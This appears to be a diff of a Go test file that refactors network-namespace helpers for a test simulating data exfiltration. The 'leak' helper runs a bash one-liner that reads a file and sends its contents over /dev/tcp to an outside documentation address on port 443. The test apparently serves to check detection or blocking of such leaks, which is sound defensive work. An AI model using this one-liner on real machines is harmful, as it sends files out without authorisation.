@@ -186,12 +186,11 @@ func example(t *testing.T, dir, name string, replacements ...string) {
 // outsideAddress is where the data goes: no network of the city's.
 const outsideAddress = "203.0.113.7"
 
-// leak makes a machine of its own with a peer beyond the city, and there a shell
-// that opens the file, sends it and keeps both open. It gives the time of the
-// connection and, when the peer has them, the number of bytes.
-func leak(t *testing.T, file string) (time.Time, <-chan int) {
+// border makes a machine of its own and, beyond the city, a peer that all else
+// leads to. It gives the names of their namespaces.
+func border(t *testing.T) (inside, outside string) {
 	t.Helper()
-	inside, outside := namespace(t, "in"), namespace(t, "out")
+	inside, outside = namespace(t, "in"), namespace(t, "out")
 	ip(t, "link", "add", "e0", "netns", inside, "type", "veth", "peer", "name", "e0", "netns", outside)
 	ip(t, "-n", outside, "address", "add", "10.77.0.1/24", "dev", "e0")
 	ip(t, "-n", outside, "address", "add", outsideAddress+"/32", "dev", "e0")
@@ -199,7 +198,15 @@ func leak(t *testing.T, file string) (time.Time, <-chan int) {
 	ip(t, "-n", inside, "address", "add", "10.77.0.2/24", "dev", "e0")
 	ip(t, "-n", inside, "link", "set", "e0", "up")
 	ip(t, "-n", inside, "route", "add", "default", "via", "10.77.0.1")
+	return inside, outside
+}
 
+// leak makes a machine with a shell that opens the file, sends it beyond the city
+// and keeps both open. It gives the time of the connection and, when the peer has
+// them, the number of bytes.
+func leak(t *testing.T, file string) (time.Time, <-chan int) {
+	t.Helper()
+	inside, outside := border(t)
 	listener := listenIn(t, outside, outsideAddress+":443")
 	shell := `exec 3<"$1" 4<>"/dev/tcp/$2/443"; read -r line <&3; echo "$line" >&4; read -r _ <&4`
 	startProgram(t, "ip", "netns", "exec", inside, "bash", "-c", shell, "leak", file, outsideAddress)
